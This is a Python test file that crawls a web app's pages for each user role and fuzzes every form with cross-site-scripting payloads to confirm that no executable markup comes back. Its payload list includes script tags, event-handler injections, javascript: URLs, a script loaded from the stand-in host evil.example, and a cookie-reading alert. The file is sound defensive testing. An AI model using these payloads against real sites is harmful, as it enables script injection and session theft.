"""Hostile text into every text field of every form each role can reach; nothing executable out.

The forms are discovered, not listed: each role's pages are crawled from its start pages (links
on the site, same origin), every <form> is parsed, and every text-like field (text, search,
email, url, tel, password, date, textarea) gets a hypothesis-generated string built from known
attack pieces (script tags, event handlers, javascript: and data: URLs, SVG and MathML, CSS,
htmx attributes, template syntax, unicode direction controls, NUL) mixed with random text. Every
response and, afterwards, every page of every role (stored XSS) must contain no executable
construct. A form added later is covered without touching this file.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlencode, urlsplit

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from council.actions import invites
from council.actions import safeguards as safeguard_actions
from council.models import User
from council.settings import Settings
from tests.conftest import make_settings, new_client, sign_in

ROLES = ["visitor", "member", "chair", "official", "secretariat"]
START_PAGES = ["/", "/help", "/signin", "/recover", "/home", "/account"]
# Links the crawler must not follow: they sign out, leave the site, or change the language.
# Forms that end the crawling account itself are left out: signing out, deleting the account.
SKIP_PREFIXES = (
    "/signout",
    "/account/delete",
    "/language",
    "/static/",
    "/signin/oidc",
    "/signin/code",
)
TEXT_TYPES = {"text", "search", "email", "url", "tel", "password", "date", ""}

HOSTILE_PIECES = [
    "<script>alert(1)</script>",
    "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "javascript:alert(1)",
    " \tJaVaScRiPt:alert(document.cookie)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<style>*{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    '<div hx-get="/signout" hx-trigger="load">',
    "hx-on:click=alert(1)",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "</textarea></title></script><script>alert(1)</script>",
    "<!--",
    "]]><![CDATA[",
    "\u202egnp.exe",
    "\u2066evil\u2069",
    "\u202a\u202b\u202c\u202d",
    "\x00\x1b[31m",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;",
]
hostile = st.lists(
    st.one_of(st.sampled_from(HOSTILE_PIECES), st.text(max_size=12)), min_size=1, max_size=4
).map("".join)

BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}
FORBIDDEN_TAGS = {"svg", "math", "iframe", "object", "embed", "base", "style", "frame", "frameset"}


class ExecutableFinder(HTMLParser):
    """Collects anything in a page that could run code or restyle it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "script":
            self.in_script = True
            if not values.get("src", "").startswith("/static/"):
                self.problems.append(f"script src={values.get('src')!r}")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append("meta http-equiv")
        # Our own stylesheet and icon, and (issue 15) the one feed announced to feed readers.
        feed = values.get("rel") == "alternate" and values.get("href") == "/feed.atom"
        if tag == "link" and not values.get("href", "").startswith("/static/") and not feed:
            self.problems.append(f"link {values.get('href')!r}")
        for name, value in values.items():
            if name.startswith("on") or name.startswith("hx-on") or name == "style":
                self.problems.append(f"attribute {name}")
            if name in URL_ATTRIBUTES or name.startswith("hx-get") or name.startswith("hx-post"):
                squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if squashed.startswith(("javascript:", "vbscript:", "data:")):
                    self.problems.append(f"{name}={value!r}")
            if BIDI.search(value):
                self.problems.append(f"bidi control in {name}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problems.append("inline script")
        if BIDI.search(data):
            self.problems.append("bidi control in text")


def executable_constructs(html: str) -> list[str]:
    finder = ExecutableFinder()
    finder.feed(html)
    finder.close()
    return finder.problems


@dataclass
class Form:
    page: str
    action: str
    method: str
    fields: dict[str, str] = field(default_factory=dict)  # name -> default value
    text_fields: list[str] = field(default_factory=list)


class FormFinder(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.forms: list[Form] = []
        self.links: list[str] = []
        self.current: Form | None = None
        self.select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "a" and values.get("href", "").startswith("/"):
            self.links.append(values["href"])
        if tag == "form":
            action = values.get("action") or self.page
            self.current = Form(self.page, action, values.get("method", "get").lower())
        if self.current is None or "name" not in values:
            if tag == "option" and self.current is not None and self.select:
                self.current.fields.setdefault(self.select, values.get("value", ""))
            return
        name = values["name"]
        if tag == "input":
            kind = values.get("type", "").lower()
            if kind in TEXT_TYPES:
                self.current.text_fields.append(name)
            if kind not in ("submit", "button", "checkbox", "radio", "file"):
                self.current.fields[name] = values.get("value", "")
        elif tag == "textarea":
            self.current.text_fields.append(name)
            self.current.fields[name] = ""
        elif tag == "select":
            self.select = name

    def handle_endtag(self, tag: str) -> None:
        if tag == "form" and self.current is not None:
            self.forms.append(self.current)
            self.current = None
        if tag == "select":
            self.select = None


def crawl(client, starts: list[str]) -> tuple[list[str], list[Form]]:  # type: ignore[no-untyped-def]
    """Pages (200 responses) reachable from `starts` by same-site links, and their forms."""
    seen: list[str] = []
    forms: dict[tuple[str, str], Form] = {}
    queue = list(starts)
    while queue and len(seen) < 40:
        url = queue.pop(0)
        path = urlsplit(url).path
        if url in seen or path.startswith(SKIP_PREFIXES) or "?" in url:
            continue
        response = client.get(url)
        if response.status_code != 200 or "text/html" not in response.headers["content-type"]:
            continue
        seen.append(url)
        finder = FormFinder(url)
        finder.feed(response.text)
        for form in finder.forms:
            if form.text_fields:
                forms.setdefault((form.action, form.method), form)
        queue.extend(finder.links)
    return seen, list(forms.values())


@pytest.fixture
def settings(database_url: str) -> Settings:
    # Ministry sign-in on (its registration form must be swept too); invites unthrottled here.
    return make_settings(
        database_url,
        oidc_issuer="https://idp.example",
        oidc_client_id="council",
        oidc_client_secret="not-used-here",
        invites_per_hour=100_000,
        signin_max_failures_per_client=100_000,
    )


class Crawled(dict):  # role -> (client, pages, forms)
    """Per role: a signed-in client, its pages and the forms on them."""

    def __init__(self, db, people) -> None:  # type: ignore[no-untyped-def]
        super().__init__()
        self.db = db
        self.people = people

    def sign_in_again_where_needed(self) -> None:
        """Hostile input can legitimately end sessions (a staff account's sign-in link changed,
        which signs that account out) or withdraw a member's consent to take part (which then
        asks for it before anything else); restore those so every page stays covered."""
        for role, (client, _pages, _forms) in self.items():
            if role == "visitor":
                continue
            home = client.get("/home")
            if home.status_code == 200:
                continue
            if home.headers.get("location", "").startswith("/consents"):
                with self.db.write() as session:
                    safeguard_actions.give_consent(session, self.people[role], "taking_part")
                assert client.get("/home").status_code == 200
                continue
            with self.db.write() as session:
                # A test-only shortcut so the next TOTP code is accepted without waiting.
                session.get(User, self.people[role].id).totp_last_step = None
            assert sign_in(client, self.people[role].name, db=self.db).status_code == 303
            _tokens.pop(id(client), None)


@pytest.fixture
def crawled(app, db, settings, people):  # type: ignore[no-untyped-def]
    with db.write() as session:
        _invite, token = invites.create_invite(session, None, settings, note="for the sweep")
    result = Crawled(db, people)
    clients = []
    for role in ROLES:
        client = new_client(app)
        client.__enter__()
        clients.append(client)
        if role != "visitor":
            assert sign_in(client, people[role].name, db=db).status_code == 303
        starts = START_PAGES + ([f"/join/{token}"] if role == "visitor" else [])
        pages, forms = crawl(client, starts)
        result[role] = (client, pages, forms)
    yield result
    for client in clients:
        client.__exit__(None, None, None)


def test_the_crawler_finds_the_forms_we_know(crawled):
    found = {(role, form.action) for role, (_, _, forms) in crawled.items() for form in forms}
    for expected in [
        ("visitor", "/signin"),
        ("visitor", "/recover"),
        ("member", "/account/passphrase"),
        ("secretariat", "/secretariat/invites"),
        ("secretariat", "/secretariat/people"),
        ("secretariat", "/secretariat/audit"),
    ]:
        assert expected in found, (expected, sorted(found))
    assert any(role == "visitor" and action.startswith("/join/") for role, action in found)


_tokens: dict[int, str] = {}


def _token(client, page: str, fresh: bool = False) -> str | None:  # type: ignore[no-untyped-def]
    if fresh or id(client) not in _tokens:
        found = re.search(r'name="csrf_token" value="([^"]+)"', client.get(page).text)
        if found is None:
            return None
        _tokens[id(client)] = found.group(1)
    return _tokens[id(client)]


def submit(client, form: Form, text: str):  # type: ignore[no-untyped-def]
    data = dict(form.fields)
    for name in form.text_fields:
        data[name] = text
    if form.method == "get":
        return client.get(f"{form.action}?{urlencode(data)}")
    token = _token(client, form.page)
    if token:
        data["csrf_token"] = token
    response = client.post(form.action, data=data)
    if response.status_code == 403 and "This form has expired" in response.text:
        # The session's token changed (a sign-in rotates it): take the new one and resend.
        data["csrf_token"] = _token(client, form.page, fresh=True) or ""
        response = client.post(form.action, data=data)
    return response


def assert_all_safe(crawled, texts: list[str]) -> int:  # type: ignore[no-untyped-def]
    """Post each text into every form of every role, then read every page. Returns requests."""
    sent = 0
    for text in texts:
        crawled.sign_in_again_where_needed()
        for role, (client, _pages, forms) in crawled.items():
            for form in forms:
                response = submit(client, form, text)
                sent += 1
                assert response.status_code < 500, (role, form.action, text)
                if "text/html" in response.headers.get("content-type", ""):
                    problems = executable_constructs(response.text)
                    assert not problems, (role, form.action, text, problems)
    # Stored: whatever was kept shows up safely on every page of every role.
    crawled.sign_in_again_where_needed()
    for role, (client, pages, _forms) in crawled.items():
        for url in pages:
            response = client.get(url)
            sent += 1
            problems = executable_constructs(response.text)
            assert not problems, (role, url, texts, problems)
    return sent


def test_every_known_attack_piece_comes_back_inert(crawled):
    assert assert_all_safe(crawled, HOSTILE_PIECES) > len(HOSTILE_PIECES)


@hypothesis_settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=hostile)
def test_no_hostile_text_comes_back_executable(crawled, text):
    assert_all_safe(crawled, [text])


def test_the_finder_sees_what_it_should():
    assert executable_constructs("<p>&lt;script&gt;</p>") == []
    assert executable_constructs("<script>alert(1)</script>")
    assert executable_constructs('<a href=" javascript:x">x</a>')
    assert executable_constructs('<img src=x onerror="a()">')
    assert executable_constructs("<svg></svg>")
    assert executable_constructs('<input value="\u202eabc">')
    assert executable_constructs('<p style="color:red">x</p>')
